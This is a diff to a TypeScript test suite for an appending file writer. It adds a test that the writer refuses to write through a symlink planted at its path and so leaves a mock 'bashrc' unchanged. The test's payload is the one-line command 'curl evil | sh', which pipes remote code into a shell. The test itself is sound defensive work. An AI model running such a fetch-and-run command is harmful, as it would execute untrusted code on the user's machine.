@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -25,6 +25,21 @@ async function openDescriptorsOn(file: string): Promise<number> {
 }
 
 describe('AppendingFile', () => {
+  it('never writes through a link planted at its name (a state directory inside the repository)', async () => {
+    const outside = path.join(dir, 'bashrc');
+    await writeFile(outside, 'export PATH=/usr/bin\n');
+    for (const truncate of [true, false]) {
+      const file = path.join(dir, 'transcripts', `agent-${String(truncate)}.jsonl`);
+      await mkdir(path.dirname(file), { recursive: true });
+      await symlink(outside, file);
+      const output = new AppendingFile(file, { truncate });
+      output.append('curl evil | sh\n');
+      await output.close();
+      expect((output.error as NodeJS.ErrnoException | undefined)?.code).toBe('ELOOP');
+    }
+    expect(await readFile(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
+  });
+
   it('writes every append in order, however many arrive while a write is in flight', async () => {
     const file = path.join(dir, 'nested', 'out.txt');
     const output = new AppendingFile(file);
